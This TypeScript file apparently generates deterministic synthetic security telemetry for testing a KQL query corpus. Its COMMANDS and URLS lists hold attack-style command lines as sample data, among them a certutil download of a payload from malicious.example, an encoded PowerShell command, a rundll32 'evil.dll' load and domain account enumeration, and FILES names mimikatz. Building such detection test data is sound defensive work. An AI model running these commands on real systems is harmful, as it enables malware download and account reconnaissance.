// Deterministic synthetic telemetry for every canonical table (in-memory row form: ISO datetimes,
// parsed dynamic values, booleans), used by the KQL corpus run.
import type { TableDef } from '../src/schema/index.js';

function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s * 1664525 + 1013904223) >>> 0;
    return s / 2 ** 32;
  };
}

const DEVICES = ['ws-alice.contoso.com', 'ws-bob.contoso.com', 'srv-dc01.contoso.com', 'srv-sql02.contoso.com', 'laptop-carol'];
const ACCOUNTS = ['alice', 'bob', 'carol', 'svc-backup', 'administrator'];
const FILES = ['powershell.exe', 'cmd.exe', 'rundll32.exe', 'svchost.exe', 'invoice.docm', 'mimikatz.exe', 'certutil.exe', 'wmic.exe'];
const COMMANDS = [
  'powershell.exe -NoProfile -EncodedCommand SQBFAFgA',
  'cmd.exe /c whoami /all',
  'rundll32.exe C:\\Users\\Public\\evil.dll,Start',
  'certutil.exe -urlcache -split -f http://malicious.example/payload.exe',
  'net user administrator /domain',
  'wmic process call create "calc.exe"',
  'svchost.exe -k netsvcs -p',
];
const ACTIONS = [
  'ProcessCreated', 'FileCreated', 'FileModified', 'ConnectionSuccess', 'ConnectionFailed', 'LogonSuccess', 'LogonFailed',
  'AntivirusDetection', 'AntivirusScanCompleted', 'RegistryValueSet', 'ImageLoaded', 'DnsQueryResponse', 'NetworkSignatureInspected',
  'Add member to role.', 'FileDownloaded', 'MailItemsAccessed', 'Set-Mailbox', 'New-InboxRule', 'Directory Services replication',
];
const IPS = ['10.0.0.5', '192.168.1.20', '172.16.4.2', '8.8.8.8', '203.0.113.7', '198.51.100.23'];
const URLS = ['https://login.contoso.com/', 'http://malicious.example/payload.exe', 'https://raw.githubusercontent.com/x/y', 'www.bing.com'];

function hex(r: () => number, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += Math.floor(r() * 16).toString(16);
  return s;
}

function pick<T>(r: () => number, list: readonly T[]): T {
  return list[Math.floor(r() * list.length)];
}

function stringValue(name: string, r: () => number, i: number): string {
  const n = name.toLowerCase();
  if (n === 'devicename' || n.endsWith('devicename')) return pick(r, DEVICES);
  if (n === 'deviceid' || n.endsWith('deviceid')) return `device-${Math.floor(r() * DEVICES.length)}`;
  if (n === 'actiontype') return pick(r, ACTIONS);
  if (n.endsWith('commandline')) return pick(r, COMMANDS);
  if (n.endsWith('filename') || n === 'filename') return pick(r, FILES);
  if (n.endsWith('folderpath')) return `C:\\Windows\\System32\\${pick(r, FILES)}`;
  if (n.endsWith('sha1')) return hex(r, 40);
  if (n.endsWith('sha256')) return hex(r, 64);
  if (n.endsWith('md5')) return hex(r, 32);
  if (n.endsWith('ip') || n === 'ipaddress' || n.endsWith('ipaddress')) return pick(r, IPS);
  if (n.includes('url')) return pick(r, URLS);
  if (n.endsWith('upn') || n.includes('emailaddress') || n === 'recipientemailaddress') return `${pick(r, ACCOUNTS)}@contoso.com`;
  if (n.includes('account') || n.includes('user')) return pick(r, ACCOUNTS);
  if (n === 'severity') return pick(r, ['High', 'Medium', 'Low', 'Informational']);
  if (n === 'osplatform') return pick(r, ['Windows10', 'Windows11', 'WindowsServer2019', 'Linux']);
  if (n === 'country' || n.endsWith('country')) return pick(r, ['US', 'NL', 'DE', 'RU']);
  if (n === 'protocol') return pick(r, ['Tcp', 'Udp']);
  if (n === 'authenticationdetails') return JSON.stringify({ SPF: pick(r, ['pass', 'fail']), DKIM: 'pass', DMARC: pick(r, ['pass', 'fail']), CompAuth: 'pass' });
  return `${name}-${i % 7}`;
}

function dynamicValue(name: string, r: () => number, i: number): unknown {
  switch (name) {
    case 'AdditionalFields':
      return {
        Command: pick(r, COMMANDS), ScanTypeIndex: 'Quick', SignatureName: 'HTTP_Client', SignatureMatchedContent: 'GET /payload.exe HTTP/1.1',
        SearchFilter: '(objectClass=user)', SearchScope: 'Subtree', BaseObject: 'DC=contoso,DC=com', ThreatName: 'Trojan:Win32/Test',
        'TARGET_OBJECT.GROUP': 'Domain Admins', ACTOR: { ENTITY_USER: pick(r, ACCOUNTS) }, Count: i % 5,
        PublicScannedIp: pick(r, IPS), PublicScannedPort: pick(r, [22, 443, 3389]),
      };
    case 'RawEventData':
      return { Operation: pick(r, ACTIONS), UserId: `${pick(r, ACCOUNTS)}@contoso.com`, ClientIP: pick(r, IPS), Parameters: [{ Name: 'Identity', Value: 'x' }], ResultStatus: 'Succeeded' };
    case 'IPAddresses':
      return [{ IPAddress: pick(r, IPS), SubnetPrefix: 24, AddressType: 'Private' }];
    case 'ActivityObjects':
      return [{ Type: 'User', Name: pick(r, ACCOUNTS), Role: 'Actor' }];
    default:
      return [stringValue(name, r, i), `${name}-${i % 3}`];
  }
}

/** `count` rows of `table`, spread over the last 10 days before `now`. */
export function seedRows(table: TableDef, count: number, now: number): Record<string, unknown>[] {
  const r = rng(table.name.length * 7919 + count);
  const rows: Record<string, unknown>[] = [];
  for (let i = 0; i < count; i++) {
    const row: Record<string, unknown> = {};
    for (const c of table.columns) {
      switch (c.type) {
        case 'datetime':
          row[c.name] = new Date(now - Math.floor(r() * 10 * 86_400_000)).toISOString();
          break;
        case 'int':
        case 'long':
          row[c.name] = c.name.endsWith('Port') ? pick(r, [80, 443, 445, 3389, 53]) : Math.floor(r() * 1000);
          break;
        case 'real':
          row[c.name] = r() * 100;
          break;
        case 'bool':
          row[c.name] = r() < 0.5;
          break;
        case 'dynamic':
          row[c.name] = dynamicValue(c.name, r, i);
          break;
        default:
          row[c.name] = stringValue(c.name, r, i);
      }
    }
    if ('ReportId' in row) row.ReportId = c(table.columns.find((x) => x.name === 'ReportId')!.type, i);
    rows.push(row);
  }
  return rows;
}

function c(type: string, i: number): unknown {
  return type === 'string' ? `report-${i}` : i + 1;
}
